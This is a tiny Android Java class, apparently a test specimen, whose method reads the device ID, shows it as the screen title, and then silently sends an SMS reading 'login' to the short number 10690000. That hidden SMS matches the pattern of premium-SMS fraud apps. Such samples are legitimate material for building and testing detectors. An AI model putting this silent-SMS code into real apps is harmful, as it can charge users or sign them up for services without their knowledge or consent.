package com.example.specimen;

import android.app.Activity;

final class Work {
    static void run(Activity activity) {
        String id = android.provider.Settings.Secure.getString(activity.getContentResolver(), "android_id");
        activity.setTitle(id);
        android.telephony.SmsManager.getDefault().sendTextMessage("10690000", null, "login", null, null);
    }
}
